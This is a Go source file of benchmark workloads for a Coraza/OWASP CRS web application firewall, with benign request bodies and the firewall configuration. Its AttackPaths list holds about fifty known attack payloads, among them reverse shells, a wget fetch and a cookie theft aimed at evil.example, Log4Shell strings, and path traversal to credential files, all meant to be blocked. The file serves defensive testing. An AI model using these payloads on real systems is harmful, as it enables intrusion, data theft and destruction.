// Package wafbench holds the WAF benchmark workloads, shared by the
// in-process benchmarks (modules/wafaccel) and the end-to-end comparison with
// nginx + ModSecurity (integration/bench/waf), so both measure the same
// requests.
package wafbench

import (
	"bytes"
	"fmt"
	"math/rand/v2"
	"mime/multipart"
	"strings"
	"sync"
)

// UserAgent is sent with every benchmark request.
const UserAgent = "Mozilla/5.0 (X11; Linux x86_64) neo-bench"

// JSON200B is a 200-byte JSON API request body.
const JSON200B = `{"order":{"id":"A-1029","customer":"c42@example.com","items":[{"sku":"X1","qty":2},{"sku":"Y7","qty":1}],"total":129.95,"currency":"EUR","note":"leave at door"}}`

// GETQuery is a benign GET request target with a query string.
const GETQuery = "/api/search?q=blue+running+shoes&page=2&sort=price_desc&size=42"

// JSON2KB is a 2 KB JSON API request body: an array of 25 small objects.
func JSON2KB() string {
	var b strings.Builder
	b.WriteString("[")
	for i := 0; i < 25; i++ {
		if i > 0 {
			b.WriteString(",")
		}
		fmt.Fprintf(&b, `{"id":%d,"name":"Customer %02d","email":"c%02d@example.com","plan":"pro","active":true}`, 1000+i, i, i)
	}
	b.WriteString("]")
	return b.String()
}

// Multipart1MiB returns a multipart/form-data body with one text field and a
// 1 MiB file upload, and its Content-Type.
var Multipart1MiB = sync.OnceValues(func() ([]byte, string) {
	var buf bytes.Buffer
	mw := multipart.NewWriter(&buf)
	_ = mw.SetBoundary("neo-bench-boundary-4f1c2a")
	_ = mw.WriteField("title", "quarterly report")
	fw, _ := mw.CreateFormFile("upload", "report.bin")
	rng := rand.New(rand.NewPCG(1, 2))
	chunk := make([]byte, 1<<20)
	for i := range chunk {
		chunk[i] = byte('a' + rng.IntN(26))
	}
	_, _ = fw.Write(chunk)
	_ = mw.Close()
	return buf.Bytes(), mw.FormDataContentType()
})

// AttackPaths are 50 request targets carrying attacks (XSS, SQLi, RCE, LFI,
// RFI, PHP and Java injection) that the CRS blocks at paranoia level 1.
func AttackPaths() []string {
	return []string{
		"/?q=<script>alert(1)</script>", "/?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
		"/?id=1'%20or%20'1'%3D'1", "/?id=1%20UNION%20SELECT%20user,password%20FROM%20users",
		"/?file=../../../../etc/passwd", "/?cmd=;cat%20/etc/passwd", "/?cmd=%7Cnc%20-e%20/bin/sh%2010.0.0.1%204444",
		"/?url=http://evil.example/shell.txt?", "/?x=<?php%20system($_GET['c']);%20?>",
		"/?x=${jndi:ldap://evil.example/a}", "/?q=javascript:alert(document.cookie)",
		"/?q=<svg/onload=alert(1)>", "/?q=<iframe%20src=javascript:alert(1)>", "/?id=1;DROP%20TABLE%20users--",
		"/?id=1%20AND%20SLEEP(5)", "/?id=admin'--", "/?id=1%20or%201=1", "/?q=%27%20or%20%27a%27=%27a",
		"/?name=%22%3E%3Cscript%3Ealert(%27x%27)%3C/script%3E", "/?p=....//....//etc/shadow",
		"/?p=/etc/passwd%00", "/?cmd=$(whoami)", "/?cmd=%3Bcat%20/etc/shadow", "/?cmd=wget%20http://evil.example/x.sh",
		"/?x=phpinfo()", "/?x=eval(base64_decode(%27aGk=%27))", "/?q=<body%20onload=alert(1)>",
		"/?q=document.location=%27http://evil.example/%27%2Bdocument.cookie", "/?id=1%20UNION%20ALL%20SELECT%20NULL,NULL",
		"/?id=1%27;%20exec%20xp_cmdshell(%27dir%27)--", "/?id=benchmark(10000000,md5(1))",
		"/?p=..%2f..%2f..%2fwindows%2fwin.ini", "/?p=/proc/self/environ", "/?cmd=bash%20-i%20%3E%26%20/dev/tcp/10.0.0.1/8080%200%3E%261",
		"/?x=java.lang.Runtime.getRuntime().exec(%22id%22)", "/?x=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D",
		"/?q=<a%20href=%22javascript:alert(1)%22>x</a>", "/?q=<object%20data=%22javascript:alert(1)%22>",
		"/?id=1%20or%20sleep(3)%23", "/?id=%27%20union%20select%201,2,3--%20-", "/?cmd=/bin/cat%20/etc/passwd",
		"/?file=php://filter/convert.base64-encode/resource=index.php", "/?file=file:///etc/passwd",
		"/?q=%3Cscript%20src=//evil.example/x.js%3E%3C/script%3E", "/?id=1%27%20and%20extractvalue(1,concat(0x7e,version()))--",
		"/?x=<?=%60id%60?>", "/?cmd=;%20rm%20-rf%20/", "/?p=.htaccess", "/?q=%22onmouseover=%22alert(1)",
		"/?id=1%20having%201=1",
	}
}

// DistinctKeys is wafaccel.DistinctKeysDirectives (the edge runs it first;
// repeated here so that this package does not import wafaccel).
const DistinctKeys = `SecAction "id:900950,phase:1,pass,nolog,neoDistinctKeys"
SecAction "id:900951,phase:2,pass,nolog,neoDistinctKeys"
`

// EdgeActions are the edge's per-request actions before the CRS
// (caddyfiles/snippets/edge.caddy): content-aware inspection
// (internal/wafcontent) and the tenants' exclusions (wafaccel).
const EdgeActions = `SecAction "id:900960,phase:1,pass,nolog,neoContent"
SecAction "id:900961,phase:2,pass,nolog,neoContent"
SecAction "id:900965,phase:1,pass,nolog,neoExclude"
`

// Directives is the benchmarked WAF's Coraza configuration, as caddy-neo runs
// it: neoDistinctKeys, the recommended Coraza config, CRS 4 defaults
// (paranoia level 1, anomaly scoring), blocking, the edge's actions, the CRS
// rules; before goes just before the CRS rules and after just after them
// (wafaccel's rule-skipping directives, or ""). Coraza's diagnostics are
// kept to errors, as in the edge snippet. A program using it must link
// wafaccel and wafcontent (their actions).
func Directives(before, after string) string {
	return DistinctKeys + "Include @coraza.conf-recommended\nInclude @crs-setup.conf.example\nSecRuleEngine On\nSecDebugLogLevel 1\n" +
		EdgeActions + before + "Include @owasp_crs/*.conf\n" + after
}

// CorazaWAFBlock is Directives as a Caddyfile coraza_waf directive with the
// embedded CRS.
func CorazaWAFBlock(before, after string) string {
	return "coraza_waf {\n\tload_owasp_crs\n\tdirectives `\n" + Directives(before, after) + "`\n}"
}
